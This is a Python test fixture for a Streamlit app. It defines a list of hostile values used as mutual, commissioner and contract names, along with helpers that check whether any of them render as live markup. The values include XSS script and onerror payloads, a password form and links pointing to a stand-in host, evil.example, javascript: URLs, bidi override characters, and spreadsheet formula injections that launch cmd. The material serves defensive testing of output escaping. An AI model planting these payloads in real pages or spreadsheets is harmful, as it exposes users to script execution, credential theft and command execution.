"""The hostile corpus (issue 8): values an attacker or a careless data owner could put in the data or the URL.

Used as mutual, commissioner and contract names, and as URL parameter values. Each value carries a marker
(``pwned``) so a test can look for any trace of it that became markup rather than text.
"""

from __future__ import annotations

HOSTILE = [
    "<script>window.pwned=1</script>Script Mutual",
    "<style>.status-badge{background:#009E73 !important}</style>Style Mutual",
    '<img src=x onerror="window.pwned=1">Image Mutual',
    '<form action="http://evil.example/pwned"><input name=password></form>Form Mutual',
    "[Sign in](http://evil.example/pwned) Link Mutual",
    "![p](http://evil.example/pwned.png) Pixel Mutual",
    "[click](javascript:alert('pwned')) JS Mutual",
    '<a href="javascript:alert(1)">pwned</a> Anchor Mutual',
    "\u202eMutual Override\u202c pwned",
    "\u2066isolate\u2069 **bold** _pwned_ `code` $x^2$ :red[pwned] Mutual",
    "=HYPERLINK(\"http://evil.example/pwned\",\"Click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0 pwned",
    "+cmd|' /C calc'!A0 pwned",
    "-2+3+cmd|' /C calc'!A0 pwned",
    "# Heading pwned\n\n---\n> quote",
]

# Tags and attributes that must never come from data or the URL.
INJECTED_TAGS = ("script", "style", "img", "form", "input", "a", "iframe")


def hostile_tables() -> dict[str, list[dict]]:
    """The hand-made tables with the corpus as mutual, commissioner and contract names and staff groups."""
    import copy

    from tests.fixtures import handmade

    tables = copy.deepcopy(handmade.TABLES)
    for i, row in enumerate(tables["mutuals"]):
        row["name"] = HOSTILE[i % len(HOSTILE)]
    for i, row in enumerate(tables["commissioners"]):
        row["name"] = HOSTILE[(i + 6) % len(HOSTILE)]
    for i, row in enumerate(tables["contracts"]):
        row["title"] = HOSTILE[(i + 9) % len(HOSTILE)]
        row["service_area"] = HOSTILE[(i + 3) % len(HOSTILE)]
    for i, row in enumerate(tables["engagement"]):
        row["staff_group"] = f"{HOSTILE[i % len(HOSTILE)]} {row['staff_group']}"
    for i, row in enumerate(tables["innovations"]):
        row["title"] = HOSTILE[(i + 2) % len(HOSTILE)]
    return tables


# Markdown or HTML that would be live if a value reached a markdown element unescaped.
RAW_MARKUP = ("[Sign in](http", "![p](http", "[click](javascript", "<script", "<img", "<form", "<style",
              "<a href", ":red[pwned]", "**bold**", "$x^2$", "# Heading pwned")


def markdown_sources(at) -> list[str]:
    """The source text of every element that Streamlit renders as markdown."""
    kinds = ("markdown", "caption", "info", "warning", "error", "success", "title", "header", "subheader")
    return [el.value for kind in kinds for el in getattr(at, kind)]


def unescaped_markup(text: str) -> list[str]:
    """The RAW_MARKUP marks left in markdown source once every backslash escape is dropped."""
    import re

    bare = re.sub(r"\\.", "", text, flags=re.DOTALL)
    return [mark for mark in RAW_MARKUP if mark in bare]


def injected_html(body: str) -> list[str]:
    """Tags or attributes in an HTML fragment that carry the corpus's ``pwned`` marker or ``evil.example``."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Finder(HTMLParser):
        def handle_starttag(self, tag, attrs):
            # the app's own <a> (matrix links) and <style> (its CSS) are fine; ones from data are not
            # (a title or aria-label holding the corpus as text is fine: an attribute value is never markup)
            marks = [f"{k}={v}" for k, v in attrs
                     if v and k not in ("title", "aria-label") and ("pwned" in v or "evil.example" in v)]
            if tag in ("img", "form", "input", "iframe") or marks:
                found.append(f"<{tag} {marks}>")

        def handle_data(self, data):
            if self.lasttag == "style" and "009E73 !important" in data:
                found.append("<style> from data")
            if self.lasttag == "script" and "pwned" in data:  # the app's own scripts carry no marker
                found.append("<script> from data")

    Finder().feed(body)
    return found
